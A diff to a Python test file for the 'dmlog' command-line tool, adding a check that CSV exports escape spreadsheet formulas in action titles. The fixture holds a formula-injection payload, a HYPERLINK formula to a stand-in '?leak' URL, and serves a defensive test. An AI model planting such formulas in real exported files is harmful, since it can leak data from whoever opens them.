@@ -45,15 +45,25 @@ def test_markdown_pack_since_a_tag(mini_site: Path) -> None:
     assert "Open actions due by the next review (2020-06-29) (0)" in sections
 
 
+FORMULA = '=HYPERLINK("http://example.org/?leak","Write the plan down")'
+
+
 def test_csv_and_html(mini_site: Path) -> None:
+    """The CSV of `dmlog review` and of `dmlog list` shows a title a spreadsheet would
+    run as a formula as text (log/spreadsheet.py, which the site's CSV uses too)."""
+    edit(mini_site, ACTIONS, "{action} Write the plan down", "{action} " + FORMULA)
     site = reviewed_log(mini_site)
     result = dmlog(site, "review", "--since", "2020-06-01", "--until", "2020-06-15",
                    "--format", "csv")
     assert result.returncode == 0, result.stderr
     rows = list(csv.DictReader(io.StringIO(result.stdout)))
     closed = [r for r in rows if r["section"] == "Actions closed"]
-    assert [(r["id"], r["status"], r["change"]) for r in closed] == [
-        ("ACT-2020-001", "done", "open → done 2020-06-10")]
+    assert [(r["id"], r["status"], r["change"], r["title"]) for r in closed] == [
+        ("ACT-2020-001", "done", "open → done 2020-06-10", "'" + FORMULA)]
+    listed = dmlog(site, "list", "actions", "--format", "csv")
+    assert listed.returncode == 0, listed.stderr
+    titles = {row["id"]: row["title"] for row in csv.DictReader(io.StringIO(listed.stdout))}
+    assert titles["ACT-2020-001"] == "'" + FORMULA and titles["ACT-2020-002"][0] != "'"
     assert len(closed[0]["commit"]) == 40
     assert not [r for r in rows if r["section"] == "New decisions"]
     html = dmlog(site, "review", "--since", "2020-06-01", "--format", "html").stdout
